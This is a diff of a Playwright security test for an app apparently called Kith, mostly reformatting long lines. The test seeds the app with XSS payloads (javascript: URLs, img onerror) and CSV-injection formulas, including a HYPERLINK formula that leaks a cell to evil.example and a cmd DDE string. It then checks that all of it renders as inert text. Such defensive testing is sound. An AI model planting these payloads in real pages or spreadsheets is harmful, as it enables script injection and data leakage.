@@ -30,7 +30,13 @@ const PAYLOADS = [
 ];
 /** Cells a spreadsheet would run as formulas (OWASP CSV injection). */
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3+cmd', '@SUM(A1:A9)', '\t=1+1'];
-const URLS = ['javascript:window.__xss=1', 'javascript:alert(1)', 'data:text/html,<script>window.__xss=1</script>', 'JaVaScRiPt:window.__xss=1', 'https://evil.example/"><img src=x onerror=window.__xss=1>'];
+const URLS = [
+  'javascript:window.__xss=1',
+  'javascript:alert(1)',
+  'data:text/html,<script>window.__xss=1</script>',
+  'JaVaScRiPt:window.__xss=1',
+  'https://evil.example/"><img src=x onerror=window.__xss=1>',
+];
 
 interface Signals {
   readonly sentinel: unknown;
@@ -44,7 +50,9 @@ async function watch(page: Page): Promise<{ console: string[]; dialogs: string[]
   await page.addInitScript(() => {
     const w = window as unknown as { __cspViolations: string[] };
     w.__cspViolations = [];
-    document.addEventListener('securitypolicyviolation', (e) => w.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`));
+    document.addEventListener('securitypolicyviolation', (e) =>
+      w.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`),
+    );
   });
   page.on('console', (msg) => {
     if (/Content Security Policy|Refused to (execute|load|apply|connect|frame)/i.test(msg.text())) seen.console.push(msg.text());
@@ -70,10 +78,12 @@ async function signals(page: Page): Promise<Signals> {
     for (const el of document.querySelectorAll('*')) {
       for (const attr of el.attributes) {
         if (/^on/i.test(attr.name)) injected.push(`<${el.tagName.toLowerCase()} ${attr.name}>`);
-        if (/^(href|src|action|formaction|xlink:href|srcdoc)$/i.test(attr.name) && /^\s*(javascript|data:text\/html)/i.test(attr.value)) injected.push(`<${el.tagName.toLowerCase()} ${attr.name}=${attr.value}>`);
+        if (/^(href|src|action|formaction|xlink:href|srcdoc)$/i.test(attr.name) && /^\s*(javascript|data:text\/html)/i.test(attr.value))
+          injected.push(`<${el.tagName.toLowerCase()} ${attr.name}=${attr.value}>`);
       }
     }
-    for (const el of document.querySelectorAll('iframe, object, embed, img[src="x"], svg animate, script:not([src])')) injected.push(`<${el.tagName.toLowerCase()}>`);
+    for (const el of document.querySelectorAll('iframe, object, embed, img[src="x"], svg animate, script:not([src])'))
+      injected.push(`<${el.tagName.toLowerCase()}>`);
     return { sentinel: w.__xss, violations: w.__cspViolations ?? [], injected };
   });
 }
@@ -97,7 +107,12 @@ async function seed(kith: KithServer): Promise<{ names: string[]; ids: string[] 
   const network = (await api(kith, 'network:get', {})) as { file: { meId: string } };
   const me = network.file.meId;
   await api(kith, 'person:update', { id: me, patch: { name: `Me ${PAYLOADS[0]}` } });
-  const community = (await api(kith, 'community:create', { name: PAYLOADS[1], kind: 'community', url: URLS[0], notes: PAYLOADS.join('\n') })) as { id: string };
+  const community = (await api(kith, 'community:create', {
+    name: PAYLOADS[1],
+    kind: 'community',
+    url: URLS[0],
+    notes: PAYLOADS.join('\n'),
+  })) as { id: string };
   const names: string[] = [];
   const ids: string[] = [];
   for (const [i, payload] of PAYLOADS.entries()) {
@@ -129,17 +144,38 @@ async function seed(kith: KithServer): Promise<{ names: string[]; ids: string[] 
     await api(kith, 'tie:create', { a: ids[i], b: ids[i + 1], origin: 'living', activity: 'sharing-information', notes: PAYLOADS[i] });
   }
   for (const [i, payload] of PAYLOADS.slice(0, 4).entries()) {
-    await api(kith, 'opportunity:create', { title: cut(payload, 200), kind: 'job', through: ids[i], company: payload, community: community.id, notes: PAYLOADS.join('\n'), date: `2026-0${i + 1}-15` });
+    await api(kith, 'opportunity:create', {
+      title: cut(payload, 200),
+      kind: 'job',
+      through: ids[i],
+      company: payload,
+      community: community.id,
+      notes: PAYLOADS.join('\n'),
+      date: `2026-0${i + 1}-15`,
+    });
   }
   return { names, ids };
 }
 
 /** Hostile LinkedIn export files: names, companies, positions and URLs as payloads; one row with unbalanced quotes. */
 function hostileConnectionsCsv(): string {
-  const rows = PAYLOADS.map((p, i) => [`Imp${i} ${p}`, p, `https://www.linkedin.com/in/${encodeURIComponent(`xss-${i}-${p}`)}`, `imported${i}@x.org`, p, p, '15 Jan 2024']);
+  const rows = PAYLOADS.map((p, i) => [
+    `Imp${i} ${p}`,
+    p,
+    `https://www.linkedin.com/in/${encodeURIComponent(`xss-${i}-${p}`)}`,
+    `imported${i}@x.org`,
+    p,
+    p,
+    '15 Jan 2024',
+  ]);
   rows.push(['Url', 'Only', URLS[0] ?? '', '', PAYLOADS[0] ?? '', '', '16 Jan 2024']);
   const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
-  const lines = ['Notes:', '"When exporting your connection data, you may notice that some of the email addresses are missing."', '', 'First Name,Last Name,URL,Email Address,Company,Position,Connected On'];
+  const lines = [
+    'Notes:',
+    '"When exporting your connection data, you may notice that some of the email addresses are missing."',
+    '',
+    'First Name,Last Name,URL,Email Address,Company,Position,Connected On',
+  ];
   for (const row of rows) lines.push(row.map(quote).join(','));
   lines.push('"<img src=x onerror=window.__xss=1>,broken,,,,,15 Jan 2024');
   return `${lines.join('\n')}\n`;
@@ -183,9 +219,15 @@ test('the XSS corpus renders as text in every view: no script runs, no CSP viola
   try {
     await page.goto(kith.url);
     await view(visited, page, 'graph labels', async () => {
-      await expect.poll(async () => (await page.evaluate(() => window.__kithGraph?.snapshot().nodes.length ?? 0))).toBeGreaterThan(PAYLOADS.length);
+      await expect
+        .poll(async () => await page.evaluate(() => window.__kithGraph?.snapshot().nodes.length ?? 0))
+        .toBeGreaterThan(PAYLOADS.length);
       const labels = await page.evaluate(() => window.__kithGraph?.snapshot().nodes.map((n) => n.label) ?? []);
-      for (const name of names) expect(labels.some((l) => l.includes(name.slice(0, 12))), `label of ${name}`).toBe(true);
+      for (const name of names)
+        expect(
+          labels.some((l) => l.includes(name.slice(0, 12))),
+          `label of ${name}`,
+        ).toBe(true);
       for (const id of ids) {
         const point = await page.evaluate((i) => window.__kithGraph?.pagePoint('node', i) ?? null, id);
         if (point) await page.mouse.move(point.x, point.y);
@@ -295,7 +337,9 @@ test('the XSS corpus renders as text in every view: no script runs, no CSP viola
     await view(visited, page, 'import refusal message', async () => {
       const chooser = page.waitForEvent('filechooser');
       await page.getByTestId('toolbar-import').click();
-      await (await chooser).setFiles({ name: `${PAYLOADS[1]}.csv`, mimeType: 'text/csv', buffer: Buffer.from(`id,title\n1,${PAYLOADS[0]}\n`) });
+      await (
+        await chooser
+      ).setFiles({ name: `${PAYLOADS[1]}.csv`, mimeType: 'text/csv', buffer: Buffer.from(`id,title\n1,${PAYLOADS[0]}\n`) });
       await expect(page.getByTestId('import-error-message')).toContainText(PAYLOADS[1] ?? '');
       await shot(page, 'import-error');
       await page.keyboard.press('Escape');
@@ -316,7 +360,10 @@ test('the XSS corpus renders as text in every view: no script runs, no CSP viola
       expect(graphml.content).toContain('&lt;img src=x onerror=window.__xss=1&gt;');
       const cells = Papa.parse<string[]>(csv.content.replace(/^\uFEFF/, '')).data.flat();
       for (const formula of FORMULAS) expect(cells, `the CSV holds ${formula} as text`).toContain(`'${formula}`);
-      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)), 'CSV cells a spreadsheet would run').toEqual([]);
+      expect(
+        cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+        'CSV cells a spreadsheet would run',
+      ).toEqual([]);
       expect(() => JSON.parse(json.content) as unknown).not.toThrow();
       await page.evaluate((text) => {
         // An export shown in the page (as a preview would) stays text.
@@ -329,7 +376,9 @@ test('the XSS corpus renders as text in every view: no script runs, no CSP viola
 
     await page.reload();
     await view(visited, page, 'reload', async () => {
-      await expect.poll(async () => (await page.evaluate(() => window.__kithGraph?.snapshot().nodes.length ?? 0))).toBeGreaterThan(PAYLOADS.length);
+      await expect
+        .poll(async () => await page.evaluate(() => window.__kithGraph?.snapshot().nodes.length ?? 0))
+        .toBeGreaterThan(PAYLOADS.length);
     });
 
     const final = await signals(page);
@@ -344,7 +393,15 @@ test('the XSS corpus renders as text in every view: no script runs, no CSP viola
     if (process.env['KITH_XSS_FIGURES']) {
       await writeFile(
         process.env['KITH_XSS_FIGURES'],
-        JSON.stringify({ payloads: PAYLOADS.length + URLS.length + FORMULAS.length, views: visited, sentinel: final.sentinel ?? null, violations: final.violations.length + seen.console.length, injected: final.injected.length, dialogs: seen.dialogs.length, requests: seen.requests.length }),
+        JSON.stringify({
+          payloads: PAYLOADS.length + URLS.length + FORMULAS.length,
+          views: visited,
+          sentinel: final.sentinel ?? null,
+          violations: final.violations.length + seen.console.length,
+          injected: final.injected.length,
+          dialogs: seen.dialogs.length,
+          requests: seen.requests.length,
+        }),
       );
     }
   } finally {
@@ -352,13 +409,25 @@ test('the XSS corpus renders as text in every view: no script runs, no CSP viola
   }
 });
 
-test('a broken data file whose content and backups hold payloads: the problem dialog and the restored network stay text', async ({ page }) => {
+test('a broken data file whose content and backups hold payloads: the problem dialog and the restored network stay text', async ({
+  page,
+}) => {
   const dir = await mkdtemp(join(tmpdir(), 'kith-xss-file-'));
   const dataPath = join(dir, 'kith.json');
   // versionOf quotes the found value in its message: the dialog shows a payload from the file itself.
   await writeFile(dataPath, JSON.stringify({ schemaVersion: PAYLOADS[0], people: [{ id: PAYLOADS[1], name: PAYLOADS[2] }] }));
   await mkdir(join(dir, 'kith.backups'));
-  const backup = { schemaVersion: 1, meId: 'me', people: [{ id: 'me', name: PAYLOADS[3] }, { id: 'p1', name: PAYLOADS[0], notes: PAYLOADS.join('\n') }], ties: [{ id: 't1', a: 'p1', b: 'me', origin: 'living' }], communities: [], opportunities: [] };
+  const backup = {
+    schemaVersion: 1,
+    meId: 'me',
+    people: [
+      { id: 'me', name: PAYLOADS[3] },
+      { id: 'p1', name: PAYLOADS[0], notes: PAYLOADS.join('\n') },
+    ],
+    ties: [{ id: 't1', a: 'p1', b: 'me', origin: 'living' }],
+    communities: [],
+    opportunities: [],
+  };
   await writeFile(join(dir, 'kith.backups', 'kith-2026-01-01T00-00-00-000Z.json'), JSON.stringify(backup));
   const kith = await startKithServer({ dataPath });
   try {
@@ -370,7 +439,7 @@ test('a broken data file whose content and backups hold payloads: the problem di
     let s = await signals(page);
     expect(s).toEqual({ sentinel: undefined, violations: [], injected: [] });
     await page.getByTestId('restore-newest').click();
-    await expect.poll(async () => (await page.evaluate(() => window.__kithGraph?.snapshot().nodes.length ?? 0))).toBe(2);
+    await expect.poll(async () => await page.evaluate(() => window.__kithGraph?.snapshot().nodes.length ?? 0)).toBe(2);
     s = await signals(page);
     expect(s).toEqual({ sentinel: undefined, violations: [], injected: [] });
     expect(seen.console).toEqual([]);
@@ -383,7 +452,10 @@ test('a broken data file whose content and backups hold payloads: the problem di
   }
 });
 
-test('the sentinel and the CSP watchers work: an inline script and a javascript: URL are caught in the served page', async ({ page, kith }) => {
+test('the sentinel and the CSP watchers work: an inline script and a javascript: URL are caught in the served page', async ({
+  page,
+  kith,
+}) => {
   const seen = await watch(page);
   await page.goto(kith.url);
   await expect(page.getByTestId('statusbar')).toBeVisible();
